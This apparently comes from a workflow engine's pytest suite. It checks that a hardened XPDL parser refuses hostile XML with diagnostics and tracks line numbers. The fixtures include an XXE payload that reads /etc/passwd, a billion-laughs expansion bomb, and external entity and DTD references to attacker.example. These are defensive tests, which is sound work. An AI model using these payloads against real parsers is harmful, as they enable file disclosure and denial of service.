"""The hardened parser refuses hostile and broken documents with a diagnostic, never a traceback."""

from __future__ import annotations

import pytest
from lxml import etree

from wfengine.definition.xpdl.read_nodes import line_of
from wfengine.definition.xpdl.reader import read_package
from wfengine.definition.xpdl.secure import DEFAULT_MAX_BYTES, DEFAULT_MAX_ELEMENTS, parse_xml
from wfengine.errors import XpdlLoadError

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Package [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Package xmlns="http://www.wfmc.org/2009/XPDL2.2" Id="p">&xxe;</Package>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Package Id="p">&lol9;</Package>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Package [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<Package Id="p"/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Package SYSTEM "http://attacker.example/evil.dtd">
<Package Id="p"/>
"""

GOOD = b"""<?xml version="1.0"?>
<Package xmlns="http://www.wfmc.org/2009/XPDL2.2" Id="p">
  <PackageHeader/>
</Package>
"""


def _refusal(data: bytes, **kwargs: int) -> XpdlLoadError:
    with pytest.raises(XpdlLoadError) as info:
        parse_xml(data, **kwargs)
    exc = info.value
    # never a raw lxml exception in the chain the caller sees
    assert not isinstance(exc, etree.LxmlError)
    assert exc.__cause__ is None
    return exc


def test_external_entity_is_refused_without_reading_the_file() -> None:
    exc = _refusal(XXE)
    assert exc.diagnostic.code == "xml-forbidden"
    assert "xxe" in exc.diagnostic.message
    assert "root:" not in str(exc)  # nothing from /etc/passwd leaked into the message


def test_billion_laughs_is_refused() -> None:
    assert _refusal(BILLION_LAUGHS).diagnostic.code == "xml-forbidden"


def test_external_parameter_entity_is_refused() -> None:
    assert _refusal(PARAMETER_ENTITY).diagnostic.code == "xml-forbidden"


def test_external_dtd_reference_is_refused() -> None:
    exc = _refusal(EXTERNAL_DTD)
    assert exc.diagnostic.code == "xml-forbidden"
    assert "evil.dtd" in exc.diagnostic.message


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE Package [<!ATTLIST Package Name CDATA "from the DTD">]>',
        "<!DOCTYPE Package [<!ELEMENT Package ANY>]>",
        "<!DOCTYPE Package>",
    ],
)
def test_any_other_dtd_is_refused_for_its_defaults_would_change_the_document(
    doctype: str,
) -> None:
    # a parser applies an internal subset's attribute defaults: the file would say more
    # than its elements show (an activity made automatic, say)
    doc = f'<?xml version="1.0"?>{doctype}<Package Id="p"/>'.encode()
    exc = _refusal(doc)
    assert exc.diagnostic.code == "xml-forbidden"
    assert "document type declaration" in exc.diagnostic.message


def test_entity_declarations_are_refused_in_utf16_documents_too() -> None:
    doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
    assert _refusal(doc.encode("utf-16")).diagnostic.code == "xml-forbidden"


def test_document_over_the_size_limit_is_refused_before_parsing() -> None:
    huge = b"<Package Id='p'>" + b"<x/>" * 1000 + b"</Package>"
    exc = _refusal(huge, max_bytes=1024)
    assert exc.diagnostic.code == "xml-too-large"
    assert "1024" in exc.diagnostic.message


def _many(elements: int, *, text: bytes = b"") -> bytes:
    """A document of exactly ``elements`` elements, well under the byte limit: the root on
    line 1, all but the last of the rest on line 2, the last on line 3."""
    return b"<Package Id='p'>\n" + text + b"<x/>" * (elements - 2) + b"\n<last/>\n</Package>"


def test_a_document_of_more_elements_than_the_limit_is_refused_naming_limit_and_line() -> None:
    # 16 MiB of tiny elements is millions of them: the byte limit alone let one file cost
    # gigabytes of memory; one element past the default limit is refused, at its line
    doc = _many(DEFAULT_MAX_ELEMENTS + 1)
    assert len(doc) < DEFAULT_MAX_BYTES
    exc = _refusal(doc)
    assert exc.diagnostic.code == "xml-too-large"
    assert "more than 250,000 elements" in exc.diagnostic.message
    assert "element 250,001 is at line 3" in exc.diagnostic.message
    assert exc.diagnostic.line == 3
    assert parse_xml(_many(DEFAULT_MAX_ELEMENTS)).getroot().get("Id") == "p"


def test_the_element_limit_counts_elements_not_angle_brackets() -> None:
    # a text full of "<" (here in CDATA) makes the count exact, and it finds no element more
    cdata = b"<![CDATA[" + b"<" * 5000 + b"]]>"
    assert parse_xml(_many(1000, text=cdata), max_elements=1000).getroot().get("Id") == "p"
    assert _refusal(_many(1001, text=cdata), max_elements=1000).diagnostic.line == 3


def test_the_element_past_the_limit_is_at_the_line_its_start_tag_begins_on() -> None:
    # libxml2 keeps lines in 16 bits: past them its line is often one too many
    doc = b"<Package Id='p'>\n" + b"<x\n a='1'/>\n" * 70_000 + b"</Package>"
    exc = _refusal(doc, max_elements=70_000)
    assert exc.diagnostic.line == 2 * 70_000  # element 70,001 is the 70,000th x
    assert "element 70,001 is at line 140000" in exc.diagnostic.message
    # and below it too, a start tag broken over lines is at the line it begins on
    assert _refusal(doc, max_elements=10).diagnostic.line == 20


def test_read_package_takes_an_element_limit_and_names_the_file() -> None:
    with pytest.raises(XpdlLoadError) as info:
        read_package(_many(101), source="big.xpdl", max_elements=100)
    assert info.value.diagnostic.code == "xml-too-large"
    assert info.value.diagnostic.file == "big.xpdl"
    assert "more than 100 elements" in info.value.diagnostic.message


def test_default_limit_accepts_ordinary_documents() -> None:
    assert DEFAULT_MAX_BYTES >= 1024 * 1024
    assert parse_xml(GOOD).getroot().get("Id") == "p"


def test_malformed_xml_reports_line_and_reason() -> None:
    exc = _refusal(b"<Package>\n<a>\n</Package>\n")
    assert exc.diagnostic.code == "xml-malformed"
    assert exc.diagnostic.line == 3
    assert "mismatch" in exc.diagnostic.message
    assert str(exc).startswith("line 3: xml-malformed")


def test_empty_document_is_malformed() -> None:
    assert _refusal(b"").diagnostic.code == "xml-malformed"


def test_undeclared_entity_is_malformed() -> None:
    assert _refusal(b"<Package>&nope;</Package>").diagnostic.code == "xml-malformed"


def test_source_lines_are_kept() -> None:
    tree = parse_xml(GOOD)
    header = tree.getroot()[0]
    assert line_of(header) == 3


def test_ordinary_character_references_still_work() -> None:
    tree = parse_xml(b"<Package Id='a&amp;b&#65;'/>")
    assert tree.getroot().get("Id") == "a&bA"


def test_read_package_names_the_source_in_a_refusal() -> None:
    with pytest.raises(XpdlLoadError) as info:
        read_package(XXE, source="upload.xpdl")
    assert info.value.diagnostic.file == "upload.xpdl"
    assert info.value.diagnostic.code == "xml-forbidden"


@pytest.mark.parametrize("end", [b"\r", b"\r\n", b"\n"])
def test_lines_are_counted_whatever_ends_them(end: bytes) -> None:
    # libxml2 counts line feeds only: a tool that ends lines with a bare carriage return
    # had every element, and so every finding, "at line 1"
    doc = end.join([b"<Package Id='p'>", b"<a/>", b"", b"<b x='1'", b"/>", b"</Package>"])
    root = parse_xml(doc).getroot()
    assert [line_of(e) for e in root] == [2, 4]  # (where the start tag begins)
    assert root[1].get("x") == "1"
    exc = _refusal(end.join([b"<Package>", b"<a>", b"</Package>"]))
    assert exc.diagnostic.line == 3


@pytest.mark.parametrize(
    ("codec", "mark"),
    [
        ("utf-16-le", b"\xff\xfe"),
        ("utf-16-be", b"\xfe\xff"),
        ("utf-16-le", b""),
        ("utf-16-be", b""),
        ("utf-32-le", b"\xff\xfe\x00\x00"),
        ("utf-32-be", b"\x00\x00\xfe\xff"),
    ],
)
@pytest.mark.parametrize("end", ["\r", "\r\n"])
def test_lines_are_counted_in_16_and_32_bit_encodings_too(
    codec: str, mark: bytes, end: str
) -> None:
    # a tool with classic Mac line ends had every finding "at line 1" in such a document
    declaration = f"<?xml version='1.0' encoding='{codec[:6].upper()}'?>"
    lines = [declaration, "<Package Id='p'>", "<a/>", "", "<b x='\u00e9\u20ac'", "/>"]
    lines.append("</Package>")
    root = parse_xml(mark + end.join(lines).encode(codec)).getroot()
    assert [line_of(e) for e in root] == [3, 5]
    assert root[1].get("x") == "\u00e9\u20ac"
    broken = ["<?xml version='1.0'?>", "<Package>", "<a>", "</Package>"]
    exc = _refusal(mark + end.join(broken).encode(codec))
    assert exc.diagnostic.line == 4
